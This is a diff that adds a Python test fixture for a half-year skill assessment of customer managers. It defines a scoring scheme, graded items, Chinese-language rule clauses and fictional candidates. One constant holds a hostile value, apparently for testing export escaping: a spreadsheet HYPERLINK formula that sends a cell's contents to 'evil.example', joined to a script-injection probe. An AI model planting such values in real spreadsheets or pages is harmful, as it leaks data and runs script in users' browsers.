@@ -1,0 +1,85 @@
+"""A small assessment made by the real rules: plainly fictional people, one of each standing, one hostile."""
+
+from __future__ import annotations
+
+from decimal import Decimal
+
+from lianbing.domain.assessment.assessment import (
+    Candidate,
+    Level,
+    MarkedItem,
+    Scheme,
+)
+from lianbing.domain.assessment.sources import skill_part
+from lianbing.domain.drills.papers import Basis, Employee
+from lianbing.domain.items.question import Skill
+from lianbing.domain.kernel.periods import Span
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<script>alert(1)</script>'
+SCHEME = Scheme(
+    id="half-year-skill",
+    title="客户经理半年技能考评方案（示例）",
+    span=Span.HALF_YEAR,
+    parts=(
+        skill_part(Skill.KNOWLEDGE, Decimal(40)),
+        skill_part(Skill.SYSTEMS, Decimal(20)),
+        skill_part(Skill.TOOLS, Decimal(20)),
+        skill_part(Skill.ANALYSIS, Decimal(20)),
+    ),
+    levels=(
+        Level(title="优秀", minimum=Decimal(90), part_minimum=Decimal(60)),
+        Level(title="良好", minimum=Decimal(80), part_minimum=Decimal(60)),
+        Level(title="合格", minimum=Decimal(60), part_minimum=Decimal(0)),
+        Level(title="待提高", minimum=Decimal(0), part_minimum=Decimal(0)),
+    ),
+)
+DRILLS = {"2026H2-a": "2026 下半年练兵（一）", "2026H2-b": "2026 下半年练兵（二）"}
+ITEMS = (
+    ("2026H2-a", "vis-0003", 1, Skill.KNOWLEDGE, "2", ("VIS-02",)),
+    ("2026H2-a", "vis-0012", 2, Skill.KNOWLEDGE, "3", ("VIS-04", "VIS-06")),
+    ("2026H2-a", "man-0007", 3, Skill.KNOWLEDGE, "2.5", ("MAN-11",)),
+    ("2026H2-a", "sys-0002", 4, Skill.SYSTEMS, "5", ("SRV-03",)),
+    ("2026H2-b", "tool-0001", 1, Skill.TOOLS, "3", ("K034",)),
+    ("2026H2-b", "stock-ratio.1", 2, Skill.ANALYSIS, "4", ("K034", "K035")),
+    ("2026H2-b", "stock-ratio.2", 3, Skill.ANALYSIS, "3", ("K035",)),
+)
+BASIS = {
+    "VIS-02": Basis(
+        title="每天走访时长", text="每天花在走访上的时间不少于 6 小时，按公司规定的时间下班。", status="重建"
+    ),
+    "VIS-04": Basis(title="订货前一天上门", text="在客户订货日之前 1 天上门，把货源信息告诉客户。", status="存疑"),
+    "VIS-06": Basis(title="每天走访户数", text="每天走访的零售户不少于 30 户。", status="完整"),
+    "MAN-11": Basis(title="进门称呼", text="进门先打招呼，称呼得体。", status="完整"),
+    "SRV-03": Basis(title="答复时限", text="市场经理对不能立即解答的问题，24 小时内答复。", status="完整"),
+    "K034": Basis(title="行业知识", text="可销天数 = 期末库存 ÷ 日均销量，单位天。", status="置信度高"),
+    "K035": Basis(
+        title="行业知识", text="一个周期里的零售销量推算：上期库存 + 本期到货 − 本期库存。", status="置信度高"
+    ),
+}
+
+
+def candidate(number: str, name: str, points: str, first_entry: int, missing: tuple[str, ...] = ()) -> Candidate:
+    """A person with one word of ``points`` per item: a number, ``?`` for ungraded, ``x`` for not on a paper."""
+    marks: list[MarkedItem] = []
+    for (drill, item, place, skill, worth, clauses), got in zip(ITEMS, points.split(), strict=True):
+        if got == "x":
+            continue
+        earned = None if got == "?" else Decimal(got)
+        entry = first_entry + len(marks) if got != "?" or number != "C0003" else None
+        paper = f"{drill}-{number}"
+        marks.append(
+            MarkedItem(
+                drill=drill,
+                paper=paper,
+                item=item,
+                number=place,
+                skill=skill,
+                worth=Decimal(worth),
+                earned=earned,
+                entry=entry,
+                clauses=clauses,
+            )
+        )
+    return Candidate(
+        Employee(id=number, name=name, team="城区一组" if number < "C0003" else "乡镇组"), tuple(marks), missing
+    )
